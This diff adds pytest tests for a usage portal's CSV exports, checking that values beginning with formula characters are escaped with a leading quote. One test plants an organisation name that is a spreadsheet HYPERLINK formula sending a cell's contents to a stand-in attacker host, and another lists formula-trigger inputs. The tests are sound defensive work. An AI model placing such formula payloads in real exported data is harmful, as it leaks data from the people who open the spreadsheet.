@@ -232,3 +232,37 @@ def test_the_latest_calls_follow_the_key_and_model_filter(
         assert [c.model_version_id for c in calls] == [diabetes.pk]
     page = owner_client.get("/portal/usage/", {"key": jobs.prefix}).content.decode()
     assert f'hx-get="/portal/usage/calls/?key={jobs.prefix}"' in page
+
+
+# --- Spreadsheet formulas in exported text ---------------------------------------------------------
+
+
+def test_the_staff_export_never_hands_a_spreadsheet_a_customers_formula(
+    staff_client: Client, iris: ModelVersion
+) -> None:
+    """An organisation named like a formula would run in the spreadsheet of the staff member who opens it."""
+    evil = organisation_get_or_create(name='=HYPERLINK("http://evil.example/?"&A2,"open")', slug="evil")
+    _calls(evil, iris)
+    rows = _csv(staff_client.get("/staff/usage/export.csv"))
+    assert [row["organisation"] for row in rows] == ["'" + '=HYPERLINK("http://evil.example/?"&A2,"open") (evil)']
+    assert rows[0]["calls"] == "1"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_the_call_export_never_hands_a_spreadsheet_a_callers_formula(
+    owner_client: Client, org: Organisation, iris: ModelVersion, text: str
+) -> None:
+    UsageRecord.objects.create(
+        request_id="req_" + uuid.uuid4().hex,
+        client_request_id=text,  # text in the ledger, however it got there
+        organisation=org,
+        face="v1-predict",
+        meter="online_predictions",
+        model_version=iris,
+        units=1,
+        status_code=200,
+        latency_ms=5.0,
+    )
+    (row,) = _csv(owner_client.get("/portal/usage/export.csv"))
+    assert row["client_request_id"] == "'" + text
+    assert row["units"] == "1"
